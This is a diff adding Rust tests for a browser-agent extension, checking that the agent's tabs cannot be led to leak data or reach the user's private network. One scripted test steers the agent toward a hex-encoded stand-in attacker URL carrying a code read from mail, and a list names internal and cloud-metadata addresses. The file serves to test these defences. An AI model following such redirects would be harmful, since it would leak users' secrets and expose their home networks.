@@ -1,0 +1,265 @@
+//! What the browser holds the run's tabs to: an address that tells something leads to no other site, pages of the internet lead to nothing in the
+//! person's own network; pages' own pictures, scripts and frames load, other tabs are free, and nothing stays behind.
+
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+use xtask::browser::{Browser, Extension, Options, Page, RunHandle};
+use xtask::internet::{Answer, Internet};
+use xtask::model_server::{ModelServer, Reply, Script};
+
+use super::super::lab::{RUN, outcome};
+
+/// What the mail shows, and the attacker wants.
+const CODE: &str = "QX7719KLM2";
+
+/// Addresses as the browser writes them, and whether they are of a network of one's own.
+const HOMES: [(&str, bool); 22] = [
+    ("http://localhost/", true),
+    ("http://localhost:9000/x", true),
+    ("https://router/", true),
+    ("http://10.1.2.3/", true),
+    ("http://127.0.0.1:80/", true),
+    ("http://169.254.169.254/latest", true),
+    ("http://172.16.0.1/", true),
+    ("http://172.31.0.1/", true),
+    ("http://192.168.178.1/a", true),
+    ("http://100.64.0.1/", true),
+    ("http://[::1]/", true),
+    ("http://[fd00::7]:8080/", true),
+    ("http://nas.local/", true),
+    ("https://a.b.internal/", true),
+    ("https://shop.example/?to=http://10.0.0.1/", false),
+    ("https://10.example.org/", false),
+    ("http://172.2.0.1/", false),
+    ("http://172.32.0.1/", false),
+    ("http://100.128.0.1/", false),
+    ("http://[2001:db8::1]/", false),
+    ("http://8.8.8.8/", false),
+    ("https://local.example/", false),
+];
+
+struct Lab {
+    browser: Browser,
+    extension: Extension,
+    internet: Internet,
+    model: ModelServer,
+}
+
+async fn lab(script: Script) -> Lab {
+    let internet = Internet::start(|hit| {
+        let page = |body: &str| Answer::Page(format!("<!doctype html><title>{}</title>{body}", hit.host));
+        let away = hit.path.strip_prefix("/away/").map(|hex| {
+            let bytes = hex.as_bytes().chunks(2);
+            let byte = |two: &[u8]| u8::from_str_radix(std::str::from_utf8(two).unwrap(), 16).unwrap();
+            String::from_utf8(bytes.map(byte).collect()).unwrap()
+        });
+        match (hit.host.as_str(), hit.path.split('?').next().unwrap_or_default()) {
+            ("mail.example", path) if path.starts_with("/away/") => Answer::Redirect(away.unwrap_or_default()),
+            ("blog.example", path) if path.starts_with("/to/") => {
+                page(&format!("<p>Going on</p><script>location = 'http://{}'</script>", path.replace("/to/", "")))
+            }
+            ("mail.example", _) => page(&format!(
+                "<h1>Mail</h1><button>Log out</button><p>Your code: {CODE}</p><img src=\"http://cdn.example/picture.png\">\
+                 <script src=\"http://cdn.example/script.js\"></script><iframe src=\"http://pay.example/frame\"></iframe>"
+            )),
+            _ => page("<h1>Here</h1><p>Some text.</p>"),
+        }
+    })
+    .await
+    .unwrap();
+    let model = ModelServer::scripted(script).await.unwrap();
+    let options = Options { online: true, flags: internet.flags(), ..Options::with_extension(xtask::paths::dist()) };
+    let browser = Browser::start(&options).await.unwrap();
+    let extension = browser.open_extension("options.html").await.unwrap();
+    let server = json!({ "edith_api_base_url": model.url, "edith_model": "scripted", "edith_api_key": "sk-test" });
+    extension.storage_set(server).await.unwrap();
+    Lab { browser, extension, internet, model }
+}
+
+impl Lab {
+    fn asked(&self, host: &str) -> usize {
+        self.internet.hits().iter().filter(|hit| hit.host == host && !hit.path.starts_with("/favicon")).count()
+    }
+
+    async fn rules(&self) -> Vec<Value> {
+        let rules = self.extension.page().eval("chrome.declarativeNetRequest.getSessionRules()").await.unwrap();
+        rules.as_array().unwrap().clone()
+    }
+
+    /// Waits until that many rules are there.
+    async fn until_rules(&self, count: usize) {
+        let started = Instant::now();
+        while self.rules().await.len() != count {
+            assert!(started.elapsed() < RUN, "{:?}", self.rules().await);
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+    }
+
+    async fn start(&self) -> RunHandle {
+        let task = "Read my mail at http://mail.example/ and tell me what http://blog.example/ says";
+        self.extension.run_agent(task, None).await.unwrap()
+    }
+
+    async fn steer(&self, kind: &str, run: &RunHandle) {
+        self.extension.accepted(json!({ "type": kind, "runId": run.run_id })).await.unwrap();
+    }
+}
+
+fn hex(text: &str) -> String {
+    text.bytes().map(|byte| format!("{byte:02x}")).collect()
+}
+
+fn go(url: &str) -> Reply {
+    Reply::call("navigate", json!({ "url": url }))
+}
+
+fn open(url: &str) -> Reply {
+    Reply::call("open_browser", json!({ "url": url }))
+}
+
+#[tokio::test]
+async fn an_address_that_tells_what_was_read_leads_to_no_other_site() {
+    let there = hex(&format!("http://evil.example/c?d={CODE}"));
+    let lab = lab(Script::new()
+        .then(open("http://mail.example/"))
+        .then(go(&format!("http://mail.example/away/{there}")))
+        .then(go("http://blog.example/to/other.example"))
+        .then(go(&format!("http://mail.example/find?q={CODE}")))
+        .then(Reply::call("ask_user", json!({ "question": "Go on?" })))
+        .then(Reply::done("done")))
+    .await;
+    let run = lab.start().await;
+    let (_, ask) = lab.extension.wait_ask(&run, 0, RUN).await.unwrap();
+    assert_eq!(lab.asked("evil.example"), 0, "{:?}", lab.internet.hits());
+    let told: Vec<String> = lab.model.requests().iter().map(|request| request.last_of("tool")).collect();
+    assert!(told[2].contains("Not gone on to another site: the address that was opened tells"), "{told:?}");
+    assert_eq!(lab.asked("other.example"), 1, "an address that tells nothing leads where it likes: {told:?}");
+    // The page with the code is held, and loads what it likes from elsewhere.
+    assert_eq!(lab.rules().await.len(), 1);
+    for host in ["cdn.example", "pay.example"] {
+        assert!(lab.asked(host) > 0, "{host}");
+    }
+    // The person's own tab is not held.
+    let own = lab.browser.open_page("http://evil.example/own").await.unwrap();
+    assert_eq!(own.eval("document.title").await.unwrap(), json!("evil.example"));
+    lab.extension.answer(&ask, "yes").await.unwrap();
+    let done = lab.extension.wait_done(&run, RUN).await.unwrap();
+    assert_eq!(outcome(&done), "completed", "{}", done.message);
+    lab.until_rules(0).await;
+}
+
+#[tokio::test]
+async fn pages_of_the_internet_lead_to_no_address_of_the_persons_network() {
+    let lab = lab(Script::new()
+        .then(open("http://mail.example/"))
+        .then(go("http://blog.example/to/192.168.0.1"))
+        .then(go("http://blog.example/to/printer.local"))
+        .then(Reply::call("ask_user", json!({ "question": "Go on?" })))
+        .then(Reply::done("done")))
+    .await;
+    let run = lab.start().await;
+    let (_, ask) = lab.extension.wait_ask(&run, 0, RUN).await.unwrap();
+    let told: Vec<String> = lab.model.requests().iter().map(|request| request.last_of("tool")).collect();
+    assert_eq!((lab.asked("192.168.0.1"), lab.asked("printer.local")), (0, 0), "{told:?}");
+    for (at, host) in [(2, "http://192.168.0.1"), (3, "http://printer.local")] {
+        assert!(told[at].contains(&format!("Not gone on to {host}: it is in the person's own")), "{told:?}");
+    }
+    // The browser's pattern and the gate's own sentence about numbers and names are one.
+    for (url, home) in HOMES {
+        let script = format!("new RegExp({}).test({})", json!(edith_core::gate::HOME), json!(url));
+        let by_name = edith_core::gate::HOME_NAMES
+            .iter()
+            .any(|name| url.split('/').nth(2).unwrap().ends_with(&format!(".{name}")));
+        let by_pattern = lab.extension.page().eval(&script).await.unwrap() == json!(true);
+        let fence = edith_core::gate::Fence::NotHome;
+        assert_eq!(
+            (by_pattern || by_name, fence.holds(&edith_core::http_url::HttpUrl::parse(url).unwrap())),
+            (home, home),
+            "{url}"
+        );
+    }
+    let own = lab.browser.open_page("http://192.168.0.1/").await.unwrap();
+    assert_eq!(own.eval("document.title").await.unwrap(), json!("192.168.0.1"), "the person's own tab is free");
+    // The person takes over: the tab is theirs, and then the run's again.
+    assert_eq!(lab.rules().await.len(), 2);
+    lab.steer("AGENT_PAUSE", &run).await;
+    lab.until_rules(0).await;
+    lab.steer("AGENT_RESUME", &run).await;
+    lab.extension.answer(&ask, "yes").await.unwrap();
+    assert_eq!(outcome(&lab.extension.wait_done(&run, RUN).await.unwrap()), "completed");
+    lab.until_rules(0).await;
+}
+
+#[tokio::test]
+async fn nothing_is_held_after_a_stop_or_a_workers_death() {
+    let wait = || Reply::call("ask_user", json!({ "question": "Go on?" }));
+    let tells = go(&format!("http://mail.example/find?q={CODE}"));
+    let turns = || [open("http://mail.example/"), tells.clone(), wait()];
+    let lab = lab(Script::replies(turns().into_iter().chain(turns()))).await;
+    let run = lab.start().await;
+    lab.extension.wait_ask(&run, run.first_event, RUN).await.unwrap();
+    assert_eq!(lab.rules().await.len(), 1);
+    lab.steer("AGENT_STOP", &run).await;
+    lab.until_rules(0).await;
+    let run = lab.start().await;
+    lab.extension.wait_ask(&run, run.first_event, RUN).await.unwrap();
+    assert_eq!(lab.rules().await.len(), 1);
+    assert!(lab.browser.kill_worker().await.unwrap());
+    lab.extension.accepted(json!({ "type": "RUN_LIST" })).await.unwrap();
+    lab.until_rules(0).await;
+    lab.steer("AGENT_STOP", &run).await;
+}
+
+/// What holding a tab costs when a page with 60 pictures loads in it.
+#[tokio::test]
+#[ignore = "a measurement; docs/safety.md has the command"]
+async fn cost_of_a_held_tab() {
+    let lab = lab(Script::new()).await;
+    let page = lab.browser.open_page("http://blog.example/").await.unwrap();
+    let tab = lab.extension.tab_id("http://blog.example/").await.unwrap().unwrap();
+    let rules = |add: Value| {
+        format!(
+            "chrome.declarativeNetRequest.updateSessionRules({{removeRuleIds: [{tab}, {tab} + 1], addRules: {add}}})"
+        )
+    };
+    let condition = |more: Value| {
+        let mut all = json!({ "tabIds": [tab], "resourceTypes": ["main_frame"] });
+        all.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        json!([{ "id": tab, "priority": 1, "action": { "type": "block" }, "condition": all }])
+    };
+    let only = condition(json!({ "excludedRequestDomains": ["blog.example", "mail.example"] }));
+    let mut home = condition(json!({ "regexFilter": edith_core::gate::HOME }));
+    let mut names = condition(json!({ "requestDomains": edith_core::gate::HOME_NAMES }))[0].take();
+    names["id"] = json!(tab + 1);
+    home.as_array_mut().unwrap().push(names);
+    let mut times: [Vec<f64>; 3] = Default::default();
+    let mut change: Vec<f64> = Vec::new();
+    for _ in 0..40 {
+        for (at, add) in [json!([]), only.clone(), home.clone()].into_iter().enumerate() {
+            let started = Instant::now();
+            lab.extension.page().eval(&rules(add)).await.unwrap();
+            change.push(started.elapsed().as_secs_f64() * 1000.0);
+            times[at].push(load(&page).await);
+        }
+    }
+    let median = |list: &mut Vec<f64>| {
+        list.sort_by(f64::total_cmp);
+        list[list.len() / 2]
+    };
+    let [free, only, home] = &mut times;
+    println!(
+        "page load, median of 40: free {:.1} ms, held to sites {:.1} ms, held from home {:.1} ms; changing a rule {:.1} ms",
+        median(free),
+        median(only),
+        median(home),
+        median(&mut change)
+    );
+}
+
+/// Milliseconds from going to a page with 60 pictures to its load event.
+async fn load(page: &Page) -> f64 {
+    page.goto("http://blog.example/pictures").await.unwrap();
+    let pictures = "Promise.all([...Array(60).keys()].map(n => fetch('/picture/' + n))).then(() => performance.now())";
+    page.eval(pictures).await.unwrap().as_f64().unwrap()
+}
